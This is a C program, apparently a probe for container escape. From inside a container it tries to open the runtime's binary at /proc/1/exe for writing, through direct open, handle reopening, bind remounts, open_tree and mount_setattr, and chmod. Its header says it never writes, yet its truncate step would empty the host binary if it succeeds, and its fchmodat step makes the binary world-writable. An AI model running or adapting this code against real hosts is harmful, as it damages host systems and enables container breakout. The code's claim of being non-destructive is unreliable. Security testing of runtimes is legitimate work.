// SPDX-License-Identifier: MIT
// owns: an attack on the runtime's own program from inside a container, through the handle that the kernel gives of it
// never: writes: that the file opens for writing is enough
//
// usage: exegrab    tries each way to open the program of process 1 for writing; prints "WAY: ERRNO" or "WAY: writable"
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#define EXE "/proc/1/exe"

struct attr {
	unsigned long long set, clr, propagation, userns;
};

static void say(const char *way, int fd)
{
	int e = errno;

	printf("%s: %s\n", way, fd >= 0 ? "writable" : e == EROFS ? "EROFS" : e == ETXTBSY ? "ETXTBSY" : strerror(e));
	if (fd >= 0)
		close(fd);
}

/* A failure on the way counts as refused: there is nothing to open then. */
static void stopped(const char *way, const char *at)
{
	printf("%s: refused at %s (%s)\n", way, at, strerror(errno));
}

static void by_bind(const char *from, const char *way)
{
	close(open("/x", O_CREAT | O_RDONLY | O_CLOEXEC, 0600));
	if (mount(from, "/x", NULL, MS_BIND, NULL)) {
		stopped(way, "bind");
		return;
	}
	if (mount(NULL, "/x", NULL, MS_REMOUNT | MS_BIND, NULL))
		stopped(way, "remount");
	say(way, open("/x", O_WRONLY | O_CLOEXEC));
	umount2("/x", MNT_DETACH);
}

static void by_tree(int handle)
{
	struct attr a = { .clr = 1 /* MOUNT_ATTR_RDONLY */ };
	char path[40];
	int fd = (int)syscall(SYS_open_tree, handle, "", 1 /* OPEN_TREE_CLONE */ | AT_EMPTY_PATH);

	if (fd < 0) {
		stopped("tree", "open_tree");
		return;
	}
	if (syscall(SYS_mount_setattr, fd, "", AT_EMPTY_PATH, &a, sizeof(a)))
		stopped("tree", "mount_setattr");
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	say("tree", open(path, O_WRONLY | O_CLOEXEC));
}

int main(void)
{
	struct stat mine, theirs;
	char path[40];
	int handle;

	setvbuf(stdout, NULL, _IOLBF, 0);
	if (stat("/proc/self/exe", &mine) || stat(EXE, &theirs)) {
		printf("cannot examine %s: %s\n", EXE, strerror(errno));
		return 1;
	}
	if (mine.st_dev == theirs.st_dev && mine.st_ino == theirs.st_ino) {
		printf("process 1 is this program\n");
		return 1;
	}
	say("open", open(EXE, O_WRONLY | O_CLOEXEC));
	say("truncate", truncate(EXE, 0) ? -1 : open("/dev/null", O_RDONLY));
	handle = open(EXE, O_PATH | O_CLOEXEC);
	if (handle < 0) {
		stopped("handle", "open");
		return 1;
	}
	snprintf(path, sizeof(path), "/proc/self/fd/%d", handle);
	say("handle", open(path, O_RDWR | O_CLOEXEC));
	if (mount(NULL, path, NULL, MS_REMOUNT | MS_BIND, NULL))
		stopped("remount", "mount");
	else
		say("remount", open(path, O_WRONLY | O_CLOEXEC));
	by_bind(path, "bind");
	by_tree(handle);
	say("mode", fchmodat(AT_FDCWD, EXE, 0777, 0) ? -1 : open("/dev/null", O_RDONLY));
	return 0;
}
